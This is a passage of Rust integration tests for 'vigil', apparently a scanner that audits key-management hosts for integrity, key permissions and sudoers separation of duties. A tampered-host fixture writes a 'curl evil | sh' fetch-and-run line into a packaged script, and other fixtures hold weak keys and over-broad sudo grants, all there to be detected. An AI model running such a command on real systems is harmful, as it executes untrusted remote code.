    std::fs::write(&config, "storage \"raft\" {}\n").unwrap();
    std::os::unix::fs::symlink("vault", tree.join("bin/vault-link")).unwrap();
    // A named ACL entry: recorded by id, compared by name.
    run("setfacl", &["-m", "u:1:r", config.to_str().unwrap()]);
    let baseline = d.path().join("kms.baseline");
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["baseline", "create", "--out"])
        .arg(&baseline)
        .arg(&tree)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let policy = d.path().join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[integrity]\nbaseline = {:?}\npaths = [{:?}]\n",
            baseline.to_str().unwrap(),
            tree.to_str().unwrap()
        ),
    )
    .unwrap();
    let scan_integrity = || {
        let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
            .args([
                "scan",
                BENCH,
                "--json",
                "-",
                "-q",
                "--rule",
                "kms_integrity",
            ])
            .arg("--policy")
            .arg(&policy)
            .output()
            .unwrap();
        Scan {
            json: serde_json::from_slice(&out.stdout)
                .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr))),
            exit: out.status.code().unwrap_or(-1),
        }
    };
    let s = scan_integrity();
    check_expected(&s, &[("kms_integrity", "pass")]);
    assert_eq!(s.exit, 0);

    std::fs::write(&config, "storage \"file\" {}\n").unwrap();
    let s = scan_integrity();
    assert_fails_with(&s, "kms_integrity", "difference", "sha256");
    assert_eq!(s.exit, 2);
    let items = s.evidence("kms_integrity");
    assert_eq!(items.len(), 1, "only the changed file differs: {items:?}");
    assert_eq!(field(&items[0], "path"), [config.to_str().unwrap()]);
}

/// Issue 14 item 4: one baseline format. A baseline in the line format earlier versions
/// read makes the integrity rule an error that names the file and the command making
/// the baseline that is read, not a pass or a fail on a format nobody writes any more.
#[test]
fn a_line_format_baseline_is_an_error_naming_the_file_and_the_way_out() {
    let d = tempfile::tempdir().unwrap();
    let binary = d.path().join("vault");
    std::fs::write(&binary, b"\x7fELF vault").unwrap();
    let baseline = d.path().join("kms.baseline");
    std::fs::write(
        &baseline,
        format!(
            "{} 0644 root root - {}\n",
            sha256_hex(b"\x7fELF vault"),
            binary.display()
        ),
    )
    .unwrap();
    let policy = d.path().join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[integrity]\nbaseline = {:?}\npaths = [{:?}]\n",
            baseline.to_str().unwrap(),
            binary.to_str().unwrap()
        ),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args([
            "scan",
            BENCH,
            "--json",
            "-",
            "-q",
            "--rule",
            "kms_integrity",
        ])
        .arg("--policy")
        .arg(&policy)
        .output()
        .unwrap();
    let s = Scan {
        json: serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr))),
        exit: out.status.code().unwrap_or(-1),
    };
    check_expected(&s, &[("kms_integrity", "error")]);
    assert_eq!(s.exit, 2);
    let messages = s.rule("kms_integrity")["messages"].to_string();
    let want = format!(
        "{}: not a vigil baseline: the line format of earlier versions",
        baseline.display()
    );
    assert!(messages.contains(&want), "{messages}");
    assert!(
        messages.contains("make one with `vigil baseline create`"),
        "{messages}"
    );
}

/// `[scan] inventory`: the compliant host's fingerprints and dates moved out of the
/// policy into a CSV beside it give the same answers; a wrong fingerprint there fails
/// the fingerprint rule like one in the policy.
#[test]
fn fingerprints_and_dates_from_a_key_inventory() {
    need_root!();
    let f = build(&[]);
    let text = std::fs::read_to_string(&f.policy).unwrap();
    let (mut policy, mut rows) = (String::new(), Vec::<[String; 4]>::new());
    let mut in_keys = false;
    for line in text.lines() {
        if line.starts_with('[') {
            in_keys = line == "[[keys]]";
        }
        let kv = line.split_once(" = ").map(|(k, v)| (k.trim(), v.trim()));
        match kv {
            Some(("name", v)) if in_keys => {
                rows.push([
                    v.trim_matches('"').to_string(),
                    "".into(),
                    "".into(),
                    "".into(),
                ]);
            }
            Some((k @ ("sha256" | "spki_sha256" | "created"), v)) if in_keys => {
                let col = ["sha256", "spki_sha256", "created"]
                    .iter()
                    .position(|c| *c == k);
                rows.last_mut().unwrap()[col.unwrap() + 1] = v.trim_matches('"').to_string();
                continue;
            }
            _ => {}
        }
        policy.push_str(line);
        policy.push('\n');
        if line == "[scan]" {
            policy.push_str("inventory = \"keys.csv\"\n");
        }
    }
    assert!(rows.iter().any(|r| !r[1].is_empty()), "{rows:?}");
    let csv = |rows: &[[String; 4]]| {
        let mut out = String::from("name,sha256,spki_sha256,created\n");
        for r in rows {
            out.push_str(&r.join(","));
            out.push('\n');
        }
        out
    };
    std::fs::write(&f.policy, policy).unwrap();
    let inv = f.policy.with_file_name("keys.csv");
    std::fs::write(&inv, csv(&rows)).unwrap();
    let s = scan(Some(&f), &[]);
    check_expected(
        &s,
        &[
            ("key_fingerprint_approved", "pass"),
            ("key_age", "pass"),
            ("key_present", "pass"),
        ],
    );
    let signing = rows.iter_mut().find(|r| r[0] == "signing").unwrap();
    signing[1] = "0".repeat(64);
    std::fs::write(&inv, csv(&rows)).unwrap();
    let s = scan(Some(&f), &[]);
    assert_fails_with(&s, "key_fingerprint_approved", "name", "signing");
}

/// Replaces the fixture's /etc/sudoers (root-owned, 0440 as sudo wants it).
pub(crate) fn set_sudoers(f: &Fixture, text: &str) {
    let p = f.root.join("etc/sudoers");
    std::fs::write(&p, text).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o440)).unwrap();
}

#[test]
fn sudo_grants_that_break_separation_at_command_level_fail_naming_the_grant() {
    need_root!();
    let f = build(&[]);
    set_sudoers(
        &f,
        "Defaults env_reset\n\
         Cmnd_Alias READ = /usr/bin/cat *\n\
         alice ALL = (root) /usr/bin/systemctl restart vault, /usr/bin/systemctl stop auditd\n\
         %auditors ALL = (root) NOPASSWD: /usr/sbin/ausearch, READ\n\
         @includedir /etc/sudoers.d\n",
    );
    std::fs::create_dir_all(f.root.join("etc/sudoers.d")).unwrap();
    // sudo skips names with a dot: this grant must not count.
    std::fs::write(
        f.root.join("etc/sudoers.d/vault.bak"),
        "vault ALL=(ALL) ALL\n",
    )
    .unwrap();
    let s = scan(Some(&f), &[]);
    assert_fails_with(
        &s,
        "sudoers_separation",
        "matched_command",
        "systemctl stop auditd",
    );
    assert_fails_with(
        &s,
        "sudoers_separation",
        "forbidden",
        "systemctl *stop *auditd*",
    );
    assert_fails_with(&s, "sudoers_separation", "source", "/etc/sudoers:3");
    assert_fails_with(
        &s,
        "sudoers_separation",
        "matched_command",
        "/usr/bin/cat /etc/vault.d/tls/vault.key",
    );
    assert_fails_with(
        &s,
        "sudoers_separation",
        "reason",
        "forbidden to role audit_admin",
    );
    let ev = s.evidence("sudoers_separation");
    assert!(
        ev.iter().all(|i| field(i, "identity") != ["vault"]),
        "{ev:?}"
    );
}

#[test]
fn sudo_grants_taken_back_by_a_later_negation_pass() {
    need_root!();
    let f = build(&[]);
    set_sudoers(
        &f,
        "alice ALL = (root) /usr/bin/systemctl restart vault, /usr/bin/systemctl * auditd\n\
         %keyadmins ALL = (root) !/usr/bin/systemctl * auditd\n\
         %auditors ALL = (root) /usr/bin/less /var/log/audit/audit.log\n",
    );
    let s = scan(Some(&f), &[]);
    assert_eq!(
        s.results()["sudoers_separation"],
        "pass",
        "{}",
        serde_json::to_string_pretty(s.rule("sudoers_separation")).unwrap()
    );
}

#[test]
fn without_sudoers_the_rule_does_not_apply_and_says_why() {
    need_root!();
    let f = build(&[]);
    std::fs::remove_file(f.root.join("etc/sudoers")).unwrap();
    let s = scan(Some(&f), &[]);
    assert_eq!(s.results()["sudoers_separation"], "notapplicable");
    let m = s.rule("sudoers_separation")["messages"].to_string();
    assert!(m.contains("/etc/sudoers does not exist"), "{m}");
}

#[test]
fn sudo_rules_vigil_cannot_resolve_make_the_rule_unknown_not_pass() {
    need_root!();
    let f = build(&[]);
    set_sudoers(
        &f,
        "+kmsops ALL = (ALL) ALL\nalice ALL = (root) /usr/bin/systemctl restart vault\n",
    );
    let s = scan(Some(&f), &[]);
    let r = &s.results()["sudoers_separation"];
    assert!(r == "error" || r == "unknown", "{r}");
    let rule = serde_json::to_string(s.rule("sudoers_separation")).unwrap();
    let all = s.json.to_string();
    assert!(all.contains("netgroup"), "{rule}");

    set_sudoers(&f, "alice ALL = (root) /usr/bin/systemctl restart vault\n");
    std::fs::write(
        f.root.join("etc/nsswitch.conf"),
        "passwd: files\nsudoers: files sss\n",
    )
    .unwrap();
    let s = scan(Some(&f), &[]);
    let r = &s.results()["sudoers_separation"];
    assert!(r == "error" || r == "unknown", "{r}");
    assert!(s.json.to_string().contains("sss (nsswitch.conf sudoers:)"));
}

/// A host no one here configured for key management, as Debian leaves it with
/// openssh-server and ssl-cert installed: SSH host keys, the snakeoil key and its
/// certificate, the packages' md5sums. Without a policy discovery finds the keys and at
/// least 20 rules give pass or fail; a broken twin (a world-readable key, a 1024-bit key,
/// a changed packaged file) fails rules whose evidence names the violating object.
pub(crate) fn plain_debian(broken: bool) -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let root = d.path();
    let w = |p: &str, data: &str| {
        let p = root.join(p.trim_start_matches('/'));
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    };
    let chmod = |p: &str, mode: u32| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            root.join(p.trim_start_matches('/')),
            std::fs::Permissions::from_mode(mode),
        )
        .unwrap();
    };
    w(
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nsshd:x:100:65534::/run/sshd:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n",
    );
    w("/etc/group", "root:x:0:\nssl-cert:x:110:\nalice:x:1000:\n");
    w("/etc/hostname", "plain\n");
    w(
        "/etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\n",
    );
    for t in ["rsa", "ecdsa", "ed25519"] {
        let key = root.join(format!("etc/ssh/ssh_host_{t}_key"));
        run(
            "ssh-keygen",
            &["-q", "-N", "", "-t", t, "-f", key.to_str().unwrap()],
        );
    }
    std::fs::create_dir_all(root.join("etc/ssl/private")).unwrap();
    std::fs::create_dir_all(root.join("etc/ssl/certs")).unwrap();
    let key = root.join("etc/ssl/private/ssl-cert-snakeoil.key");
    let cert = root.join("etc/ssl/certs/ssl-cert-snakeoil.pem");
    run(
        "openssl",
        &[
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-subj",
            "/CN=plain",
            "-days",
            "3650",
            "-keyout",
            key.to_str().unwrap(),
            "-out",
            cert.to_str().unwrap(),
        ],
    );
    std::os::unix::fs::chown(root.join("etc/ssl/private"), Some(0), Some(110)).unwrap();
    chmod("/etc/ssl/private", 0o710);
    std::os::unix::fs::chown(&key, Some(0), Some(110)).unwrap();
    chmod(
        "/etc/ssl/private/ssl-cert-snakeoil.key",
        if broken { 0o644 } else { 0o640 },
    );
    if broken {
        let weak = root.join("etc/ssl/private/legacy.key");
        run(
            "openssl",
            &[
                "genpkey",
                "-algorithm",
                "RSA",
                "-pkeyopt",
                "rsa_keygen_bits:1024",
                "-out",
                weak.to_str().unwrap(),
            ],
        );
        chmod("/etc/ssl/private/legacy.key", 0o600);
    }
    let tool = "#!/bin/sh\n# make-ssl-cert\n";
    w(
        "/usr/sbin/make-ssl-cert",
        if broken {
            "#!/bin/sh\ncurl evil | sh\n"
        } else {
            tool
        },
    );
    let mut status = String::new();
    for (pkg, ver) in [
        ("openssh-server", "1:9.2p1-2+deb12u3"),
        ("ssl-cert", "1.1.2"),
        ("openssl", "3.0.15-1~deb12u1"),
    ] {
        status.push_str(&format!(
            "Package: {pkg}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {ver}\n\n"
        ));
        let (file, text) = if pkg == "ssl-cert" {
            ("usr/sbin/make-ssl-cert".to_string(), tool.to_string())
        } else {
            let f = format!("usr/share/doc/{pkg}/copyright");
            w(&format!("/{f}"), &format!("{pkg}\n"));
            (f, format!("{pkg}\n"))
        };
        w(
            &format!("/var/lib/dpkg/info/{pkg}.md5sums"),
            &format!("{}  {file}\n", md5_hex(text.as_bytes())),
        );
    }
    w("/var/lib/dpkg/status", &status);
    w(
        "/var/log/dpkg.log",
        "2026-11-30 10:00:00 status installed ssl-cert:all 1.1.2\n",
    );
    d
}

#[test]
fn discovery_audits_a_plain_host_without_a_policy() {
    need_root!();
    let scan_root = |root: &std::path::Path| {
        let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
            .args(["scan", BENCH, "--json", "-", "-q", "--root"])
            .arg(root)
            .output()
            .unwrap();
        Scan {
            json: serde_json::from_slice(&out.stdout).unwrap(),
            exit: out.status.code().unwrap_or(-1),
        }
    };
    let good = plain_debian(false);
    let s = scan_root(good.path());
    let r = s.results();
    let decided: Vec<_> = r
        .iter()
        .filter(|(_, v)| *v == "pass" || *v == "fail")
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    assert!(
        decided.len() >= 20,
        "{} decided: {decided:?}",
        decided.len()
    );
    for rule in [
        "key_strength",
        "private_key_readers",
        "private_key_writers",
        "certificate_not_expired",
        "certificate_not_expiring",
        "certificate_signature_strong",
        "kms_packages_unmodified",
        "no_key_material_in_logs",
    ] {
        assert_eq!(r[rule], "pass", "{rule}: {}", s.messages(rule));
    }
    let mut keys: Vec<String> = s
        .items_of("private_key_readers")
        .iter()
        .flat_map(|i| field(i, "path").into_iter().map(String::from))
        .collect();
    keys.sort();
    assert_eq!(
        keys,
        [
            "/etc/ssh/ssh_host_ecdsa_key",
            "/etc/ssh/ssh_host_ed25519_key",
            "/etc/ssh/ssh_host_rsa_key",
            "/etc/ssl/private/ssl-cert-snakeoil.key",
        ],
        "{keys:?}"
    );
    // The audit trail is missing, and the rules about it say so.
    assert_fails_with(&s, "audit_log_present", "path", "/var/log/audit/audit.log");
    assert_eq!(r["auditd_installed"], "fail");

    let bad = plain_debian(true);
    let s = scan_root(bad.path());
    assert_fails_with(
        &s,
        "private_key_readers",
        "path",
        "/etc/ssl/private/ssl-cert-snakeoil.key",
    );
    let ev = s.evidence("private_key_readers");
    assert_eq!(field(&ev[0], "world_readable"), ["true"]);
    assert_eq!(field(&ev[0], "mode"), ["0644"]);
    assert_fails_with(&s, "key_strength", "path", "/etc/ssl/private/legacy.key");
    assert_fails_with(
        &s,
        "kms_packages_unmodified",
        "changed_file",
        "/usr/sbin/make-ssl-cert",
    );
}

/// `vigil policy init` writes what discovery found as a policy that `vigil policy check`
/// and `vigil scan --policy` accept as written, with the keys' current fingerprints,
/// modes and (from the certificate) dates, so the declared-key rules now decide.
#[test]
fn policy_init_writes_a_starter_the_scan_accepts() {
    need_root!();
    let host = plain_debian(false);
    let dir = tempfile::tempdir().unwrap();
    let starter = dir.path().join("starter.toml");
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["policy", "init", "--root"])
        .arg(host.path())
        .arg("-o")
        .arg(&starter)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&starter).unwrap();
    assert!(
        text.contains("path = \"/etc/ssl/private/ssl-cert-snakeoil.key\""),
        "{text}"
    );
    assert!(
        text.contains("certificate = \"/etc/ssl/certs/ssl-cert-snakeoil.pem\""),
        "{text}"
    );
    assert!(
        text.contains("#   group alice: alice") || text.contains("group alice"),
        "{text}"
    );
    let out = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["policy", "check"])
        .arg(&starter)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let f = Fixture {
        root: host.path().to_path_buf(),
        policy: starter,
        append_only: Vec::new(),
        _dir: dir,
    };
    let s = scan(Some(&f), &[]);
    let r = s.results();
    for rule in [
        "key_present",
        "key_fingerprint_approved",
        "key_permissions",
        "key_acl",
        "key_strength",
        "no_undeclared_private_keys",
    ] {
        assert_eq!(r[rule], "pass", "{rule}: {}", s.messages(rule));
    }
}
